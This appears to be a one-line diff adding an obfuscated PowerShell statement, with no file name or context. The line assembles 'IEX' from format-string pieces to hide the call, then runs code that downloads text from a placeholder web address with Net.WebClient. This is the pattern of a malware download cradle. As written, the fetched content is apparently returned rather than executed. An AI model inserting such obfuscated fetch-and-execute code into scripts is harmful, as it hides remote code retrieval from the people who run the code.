@@ -1,0 +1,1 @@
+. ("{1}{0}"-f 'EX','I') '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
